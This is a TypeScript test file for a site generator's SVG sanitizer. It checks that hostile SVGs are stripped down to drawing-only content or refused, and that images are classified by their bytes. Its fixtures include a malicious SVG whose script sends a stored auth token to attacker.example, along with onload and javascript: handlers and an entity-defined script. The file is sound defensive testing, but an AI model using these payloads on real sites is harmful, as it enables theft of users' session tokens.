/**
 * Content images are published by what their bytes are, not by their names, and an SVG only as a
 * drawing (generator/images/sanitizeSvg.ts): opened at its own URL, a published SVG is a document of
 * the site's origin, and a host that ignores `_headers` (GitHub Pages) serves it without the CSP. On a
 * copy of tests/fixtures/image-site, built with the programmatic API.
 */
import { cp, mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import sharp from 'sharp';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { build } from '../../generator/build.ts';
import { SiteError } from '../../generator/core/errors.ts';

const repo = fileURLToPath(new URL('../..', import.meta.url));
let site: string;

/** An SVG a visitor's browser would run the scripts of, opened at its URL. */
const HOSTILE =
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="40" onload="alert(document.domain)">' +
  '<script>fetch("https://attacker.example/?" + localStorage.getItem("sb-auth"))</script>' +
  '<a xlink:href="javascript:alert(1)"><rect width="120" height="40" fill="#36c"/></a>' +
  '<image href="https://tracker.example/pixel.png" width="1" height="1"/></svg>';

beforeAll(async () => {
  site = path.join(await mkdtemp(path.join(os.tmpdir(), 'site-svg-images-')), 'image-site');
  await cp(path.join(repo, 'tests/fixtures/image-site'), site, { recursive: true, filter: (src) => path.basename(src) !== '.site' });
  await symlink(path.join(repo, 'node_modules'), path.join(site, 'node_modules'), 'dir');
  await mkdir(path.join(site, 'content/images'));
  await mkdir(path.join(site, 'content/posts/images'));
  const solid = (width: number, height: number) => sharp({ create: { width, height, channels: 3, background: '#2255aa' } });
  await solid(1200, 600).png().toFile(path.join(site, 'content/images/hero.png'));
  await solid(800, 800).jpeg().toFile(path.join(site, 'content/posts/images/cover.jpg'));
  // The same hostile SVG under its own name and under a PNG's; a PNG under an SVG's name.
  await writeFile(path.join(site, 'content/posts/images/chart.png'), HOSTILE);
  await writeFile(path.join(site, 'content/posts/images/mark.svg'), `${HOSTILE}\n`);
  await solid(300, 100).png().toFile(path.join(site, 'content/posts/images/logo.svg'));
  const post = path.join(site, 'content/posts/first.md');
  await writeFile(post, `${await readFile(post, 'utf8')}\n![The mark](./images/mark.svg)\n\n![The logo](./images/logo.svg)\n`);
}, 60_000);
afterAll(() => rm(path.dirname(site), { recursive: true, force: true }));

it('publishes an SVG under any name as drawing only, and a PNG named .svg as a PNG', async () => {
  const lines: string[] = [];
  const out = path.join(site, 'dist');
  await build({ root: site, out, backend: null, socialImages: false, log: (line) => lines.push(line), progress: false });
  const images = path.join(out, 'assets/images');
  const files = (await readdir(images)).sort();
  const published = await Promise.all(files.map(async (f) => [f, await readFile(path.join(images, f), 'utf8')] as const));
  // The SVG named chart.png is published as an SVG, as is mark.svg; neither holds anything that runs or reaches out.
  const svgs = published.filter(([f]) => f.endsWith('.svg'));
  expect(svgs.map(([f]) => f.replace(/-[0-9a-f]{8}-/, '-*-'))).toEqual(['chart-*-120.svg', 'mark-*-120.svg']);
  for (const [f, text] of svgs) {
    expect(text, f).toContain('<rect width="120" height="40" fill="#36c"/>');
    expect(text, f).not.toMatch(/script|onload|javascript:|attacker|tracker|alert/i);
  }
  expect(files.some((f) => /^chart-.*\.(png|avif|webp)$/.test(f))).toBe(false);
  // logo.svg holds a PNG: encoded as one, never published as .svg.
  expect(files.filter((f) => f.startsWith('logo-')).map((f) => path.extname(f)).sort()).toEqual(['.avif', '.png', '.webp']);
  const page = await readFile(path.join(out, 'posts/first.html'), 'utf8');
  expect(page).toMatch(/<img src="\/assets\/images\/chart-[0-9a-f]{8}-120\.svg" width="120" height="40" alt="A chart of the results"/);
  expect(page).toMatch(/srcSet="[^"]*logo-[0-9a-f]{8}-300\.png 300w"/);
  expect(lines.filter((l) => l.startsWith('Warning: posts/images/'))).toEqual([
    expect.stringContaining('posts/images/chart.png: published without the event handler onload, <script>, the link xlink:href="javascript:alert(1)", the link href="https://tracker.example/pixel.png"'),
    expect.stringContaining('posts/images/mark.svg: published without'),
  ]);
}, 180_000);

it('refuses an SVG that defines entities, naming it and the content file that shows it', async () => {
  const entities = '<!DOCTYPE svg [<!ENTITY run "alert(1)">]><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/><script>&run;</script></svg>';
  await writeFile(path.join(site, 'content/posts/images/mark.svg'), entities);
  const error = await build({ root: site, out: path.join(site, 'dist'), backend: null, socialImages: false, log: () => {}, progress: false }).then(
    () => new Error('the build passed'),
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(SiteError);
  expect((error as SiteError).code).toBe('ImageSvgRefused');
  expect((error as SiteError).message).toContain('mark.svg (shown by posts/first.md');
  expect((error as SiteError).message).toContain('it defines entities');
}, 180_000);
